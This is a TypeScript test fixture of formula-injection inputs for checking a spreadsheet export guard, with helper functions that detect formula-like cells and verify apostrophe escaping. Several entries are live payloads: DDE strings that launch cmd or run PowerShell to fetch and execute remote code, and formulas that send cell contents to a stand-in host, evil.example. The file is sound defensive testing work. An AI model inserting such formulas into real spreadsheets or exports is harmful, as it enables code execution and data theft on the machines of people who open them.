/** What people have used, or tried, to make a spreadsheet take text for a formula. */
const bare = [
  '=1+1',
  '=SUM(A1:A9)',
  '=HYPERLINK("http://evil.example?x="&A1,"Klicka")',
  "=cmd|'/C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=IMPORTDATA("http://evil.example")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '=1+1";=2+2',
  '="a"&"b"',
  '=@SUM(1)',
  '=-1',
  '+1+1',
  '+46701234567',
  "+cmd|'/C calc'!A0",
  '-1',
  '- fler bänkar',
  "-2+3+cmd|'/C calc'!A0",
  '--1',
  '@SUM(1+1)',
  '@kommunen',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1',
  '＠SUM(1)',
];
const before = [
  ' ',
  '   ',
  '\u00A0',
  '\u2003',
  '\u3000',
  '\u200B',
  '\uFEFF',
  '\u200E',
  '"',
  "'",
  '""',
  ' "',
  '\u0001',
];
const breaks = [
  'Bra\n',
  'Bra\r\n',
  'Bra\r',
  'Bra\n\n',
  'Bra \n ',
  '\n',
  '\r',
  '\t',
  'Bra\t',
  'Bra;',
  'Bra, ',
  'Bra";"',
  'Bra|',
];

export const formulas: string[] = [
  ...bare,
  ...before.map((space) => `${space}=1+1`),
  ...before.map((space) => `${space}@SUM(1)`),
  ...breaks.map((start) => `${start}=1+1`),
  ...breaks.map((start) => `${start}\u00A0＋1`),
];

/** Whether a spreadsheet could take a cell for a formula, said another way than the guard says it. */
export function couldBeFormula(cell: string): boolean {
  if (/^[\t\r\n]/.test(cell)) return true;
  return cell.split(/[\r\n]/).some((line) => {
    const first = Array.from(line).find((character) => !/[\s\p{Z}\p{C}"]/u.test(character));
    return first !== undefined && '=+-@＝＋－＠'.includes(first);
  });
}

/** Whether `guarded` is `text` with nothing changed but apostrophes put in. */
export function isTextWithApostrophes(guarded: string, text: string): boolean {
  let at = 0;
  for (const character of guarded) {
    if (text.startsWith(character, at)) at += character.length;
    else if (character !== "'") return false;
  }
  return at === text.length;
}
